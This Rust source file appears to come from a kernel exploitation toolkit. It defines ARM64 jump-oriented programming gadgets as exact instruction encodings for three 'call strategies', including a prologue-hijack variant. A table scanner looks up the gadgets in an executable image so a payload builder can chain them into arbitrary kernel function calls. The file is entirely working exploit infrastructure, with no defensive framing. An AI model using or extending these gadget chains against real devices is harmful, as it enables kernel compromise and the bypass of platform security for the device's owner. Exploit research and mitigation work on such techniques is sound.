//! The static gadget patterns JOP call strategy 1 (§8.4) needs resolved
//! before it can build a payload. Each pattern is an exact instruction
//! sequence; [`crate::gadget::GadgetTable::locate`] scans an executable
//! image for the first occurrence of each.

use crate::gadget::GadgetPattern;

const fn gadget(name: &'static str, words: &'static [u32]) -> GadgetPattern {
    GadgetPattern { name, words }
}

/// Named gadget addresses used as offsets into [`STRATEGY_1_GADGETS`], so
/// `strategy1::build` can look each one up by name rather than by index.
pub const LDP_X2_X1_X1__BR_X2: &str = "LDP_X2_X1_X1__BR_X2";
pub const MOV_X12_X2__BR_X3: &str = "MOV_X12_X2__BR_X3";
pub const MOV_X2_X30__BR_X12: &str = "MOV_X2_X30__BR_X12";
pub const MOV_X8_X4__BR_X5: &str = "MOV_X8_X4__BR_X5";
pub const MOV_X21_X2__BR_X8: &str = "MOV_X21_X2__BR_X8";
pub const MOV_X20_X0__BLR_X8: &str = "MOV_X20_X0__BLR_X8";
pub const MOV_X10_X4__BR_X8: &str = "MOV_X10_X4__BR_X8";
pub const MOV_X9_X10__BR_X8: &str = "MOV_X9_X10__BR_X8";
pub const MOV_X11_X9__BR_X8: &str = "MOV_X11_X9__BR_X8";
pub const LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8: &str = "LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8";
pub const ADD_X20_X20_34__BR_X8: &str = "ADD_X20_X20_34__BR_X8";
pub const MOV_X22_X6__BLR_X8: &str = "MOV_X22_X6__BLR_X8";
pub const MOV_X24_X4__BR_X8: &str = "MOV_X24_X4__BR_X8";
pub const MOV_X0_X3__BLR_X8: &str = "MOV_X0_X3__BLR_X8";
pub const MOV_X28_X0__BLR_X8: &str = "MOV_X28_X0__BLR_X8";
pub const MOV_X12_X3__BR_X8: &str = "MOV_X12_X3__BR_X8";
pub const MOV_X0_X5__BLR_X8: &str = "MOV_X0_X5__BLR_X8";
pub const MOV_X9_X0__BR_X11: &str = "MOV_X9_X0__BR_X11";
pub const MOV_X7_X9__BLR_X11: &str = "MOV_X7_X9__BLR_X11";
pub const MOV_X11_X24__BR_X8: &str = "MOV_X11_X24__BR_X8";
pub const MOV_X1_X9__MOV_X2_X10__BLR_X11: &str = "MOV_X1_X9__MOV_X2_X10__BLR_X11";
pub const MOV_X30_X28__BR_X12: &str = "MOV_X30_X28__BR_X12";
pub const LDP_X8_X1_X20_10__BLR_X8: &str = "LDP_X8_X1_X20_10__BLR_X8";
pub const STR_X0_X20__LDR_X8_X22__LDR_X8_X8_28__MOV_X0_X22__BLR_X8: &str =
    "STR_X0_X20__LDR_X8_X22__LDR_X8_X8_28__MOV_X0_X22__BLR_X8";
pub const MOV_X30_X21__BR_X8: &str = "MOV_X30_X21__BR_X8";
pub const RET: &str = "RET";

/// Gadgets unique to call strategy 2 (a register-only variant of strategy
/// 1 that chains through `x21`/`x15`/`x17` instead of `x22`/`x24`/`x28`).
pub const MOV_X28_X2__BLR_X8: &str = "MOV_X28_X2__BLR_X8";
pub const MOV_X21_X5__BLR_X8: &str = "MOV_X21_X5__BLR_X8";
pub const MOV_X15_X5__BR_X11: &str = "MOV_X15_X5__BR_X11";
pub const MOV_X17_X15__BR_X8: &str = "MOV_X17_X15__BR_X8";
pub const MOV_X30_X22__BR_X17: &str = "MOV_X30_X22__BR_X17";
pub const STR_X0_X20__LDR_X8_X21__LDR_X8_X8_28__MOV_X0_X21__BLR_X8: &str =
    "STR_X0_X20__LDR_X8_X21__LDR_X8_X8_28__MOV_X0_X21__BLR_X8";
pub const MOV_X30_X28__BR_X8: &str = "MOV_X30_X28__BR_X8";

/// Gadgets unique to the prologue-hijack family (call strategy 3): a
/// kernel function's own prologue/epilogue stand in for the register
/// save/restore and stack-argument support the simple dispatch chain
/// can't provide.
pub const GADGET_PROLOGUE_1: &str = "GADGET_PROLOGUE_1";
pub const MOV_X23_X0__BLR_X8: &str = "MOV_X23_X0__BLR_X8";
pub const GADGET_INITIALIZE_X20_1: &str = "GADGET_INITIALIZE_X20_1";
pub const MOV_X25_X0__BLR_X8: &str = "MOV_X25_X0__BLR_X8";
pub const GADGET_POPULATE_1: &str = "GADGET_POPULATE_1";
pub const MOV_X19_X9__BR_X8: &str = "MOV_X19_X9__BR_X8";
pub const MOV_X20_X12__BR_X8: &str = "MOV_X20_X12__BR_X8";
pub const MOV_X8_X10__BR_X11: &str = "MOV_X8_X10__BR_X11";
pub const GADGET_CALL_FUNCTION_1: &str = "GADGET_CALL_FUNCTION_1";
pub const GADGET_STORE_RESULT_1: &str = "GADGET_STORE_RESULT_1";
pub const GADGET_EPILOGUE_1: &str = "GADGET_EPILOGUE_1";

/// The 26 gadgets `call_strategy_1`'s `check()` requires, byte-identical
/// to the dispatcher and load/store gadgets the original's JOP chain was
/// hand-assembled around.
pub const STRATEGY_1_GADGETS: &[GadgetPattern] = &[
    gadget(LDP_X2_X1_X1__BR_X2, &[0xa9400422, 0xd61f0040]),
    gadget(MOV_X12_X2__BR_X3, &[0xaa0203ec, 0xd61f0060]),
    gadget(MOV_X2_X30__BR_X12, &[0xaa1e03e2, 0xd61f0180]),
    gadget(MOV_X8_X4__BR_X5, &[0xaa0403e8, 0xd61f00a0]),
    gadget(MOV_X21_X2__BR_X8, &[0xaa0203f5, 0xd61f0100]),
    gadget(MOV_X20_X0__BLR_X8, &[0xaa0003f4, 0xd63f0100]),
    gadget(MOV_X10_X4__BR_X8, &[0xaa0403ea, 0xd61f0100]),
    gadget(MOV_X9_X10__BR_X8, &[0xaa0a03e9, 0xd61f0100]),
    gadget(MOV_X11_X9__BR_X8, &[0xaa0903eb, 0xd61f0100]),
    gadget(LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8, &[0xa9421283, 0xa9431a85, 0xd63f0100]),
    gadget(ADD_X20_X20_34__BR_X8, &[0x9100d294, 0xd61f0100]),
    gadget(MOV_X22_X6__BLR_X8, &[0xaa0603f6, 0xd63f0100]),
    gadget(MOV_X24_X4__BR_X8, &[0xaa0403f8, 0xd61f0100]),
    gadget(MOV_X0_X3__BLR_X8, &[0xaa0303e0, 0xd63f0100]),
    gadget(MOV_X28_X0__BLR_X8, &[0xaa0003fc, 0xd63f0100]),
    gadget(MOV_X12_X3__BR_X8, &[0xaa0303ec, 0xd61f0100]),
    gadget(MOV_X0_X5__BLR_X8, &[0xaa0503e0, 0xd63f0100]),
    gadget(MOV_X9_X0__BR_X11, &[0xaa0003e9, 0xd61f0160]),
    gadget(MOV_X7_X9__BLR_X11, &[0xaa0903e7, 0xd63f0160]),
    gadget(MOV_X11_X24__BR_X8, &[0xaa1803eb, 0xd61f0100]),
    gadget(MOV_X1_X9__MOV_X2_X10__BLR_X11, &[0xaa0903e1, 0xaa0a03e2, 0xd63f0160]),
    gadget(MOV_X30_X28__BR_X12, &[0xaa1c03fe, 0xd61f0180]),
    gadget(LDP_X8_X1_X20_10__BLR_X8, &[0xa9410688, 0xd63f0100]),
    gadget(STR_X0_X20__LDR_X8_X22__LDR_X8_X8_28__MOV_X0_X22__BLR_X8, &[
        0xf9000280, 0xf94002c8, 0xf9401508, 0xaa1603e0, 0xd63f0100,
    ]),
    gadget(MOV_X30_X21__BR_X8, &[0xaa1503fe, 0xd61f0100]),
    gadget(RET, &[0xd65f03c0]),
];

/// Gadgets `call_strategy_2`'s `check()` requires beyond the dispatcher
/// and load/store gadgets it shares with strategy 1.
pub const STRATEGY_2_GADGETS: &[GadgetPattern] = &[
    gadget(MOV_X28_X2__BLR_X8, &[0xaa0203fc, 0xd63f0100]),
    gadget(MOV_X21_X5__BLR_X8, &[0xaa0503f5, 0xd63f0100]),
    gadget(MOV_X15_X5__BR_X11, &[0xaa0503ef, 0xd61f0160]),
    gadget(MOV_X17_X15__BR_X8, &[0xaa0f03f1, 0xd61f0100]),
    gadget(MOV_X30_X22__BR_X17, &[0xaa1603fe, 0xd61f0220]),
    gadget(STR_X0_X20__LDR_X8_X21__LDR_X8_X8_28__MOV_X0_X21__BLR_X8, &[
        0xf9000280, 0xf94002a8, 0xf9401508, 0xaa1503e0, 0xd63f0100,
    ]),
    gadget(MOV_X30_X28__BR_X8, &[0xaa1c03fe, 0xd61f0100]),
];

/// Gadgets the prologue-hijack family (strategy 3) requires beyond the
/// shared dispatcher gadget.
pub const STRATEGY_3_GADGETS: &[GadgetPattern] = &[
    gadget(GADGET_PROLOGUE_1, &[
        0xa9ba6ffc, 0xa90167fa, 0xa9025ff8, 0xa90357f6, 0xa9044ff4, 0xa9057bfd,
        0x910143fd, 0xd10103ff, 0xaa0003f3, 0xf9400268, 0xf941c908, 0xd63f0100,
    ]),
    gadget(MOV_X23_X0__BLR_X8, &[0xaa0003f7, 0xd63f0100]),
    gadget(GADGET_INITIALIZE_X20_1, &[0xf9406274, 0xf9400008, 0xf9405108, 0xd63f0100]),
    gadget(MOV_X25_X0__BLR_X8, &[0xaa0003f9, 0xd63f0100]),
    gadget(GADGET_POPULATE_1, &[
        0xa9400ee2, 0xa94116e4, 0xa9421ee6, 0xa9432ae9, 0xa94432eb, 0xa9025bf5,
        0xa90133eb, 0xa9002be9, 0xaa1303e0, 0xaa1403e1, 0xd63f0100,
    ]),
    gadget(MOV_X19_X9__BR_X8, &[0xaa0903f3, 0xd61f0100]),
    gadget(MOV_X20_X12__BR_X8, &[0xaa0c03f4, 0xd61f0100]),
    gadget(MOV_X8_X10__BR_X11, &[0xaa0a03e8, 0xd61f0160]),
    gadget(GADGET_CALL_FUNCTION_1, &[
        0xd63f0300, 0xaa0003f3, 0xf9400328, 0xf9406908, 0xaa1903e0, 0xd63f0100,
    ]),
    gadget(GADGET_STORE_RESULT_1, &[0xf9011c13, 0xf9410c00, 0xf9400008, 0xf940a108, 0xd63f0100]),
    gadget(GADGET_EPILOGUE_1, &[
        0xd10143bf, 0xa9457bfd, 0xa9444ff4, 0xa94357f6, 0xa9425ff8, 0xa94167fa,
        0xa8c66ffc, 0xd65f03c0,
    ]),
];
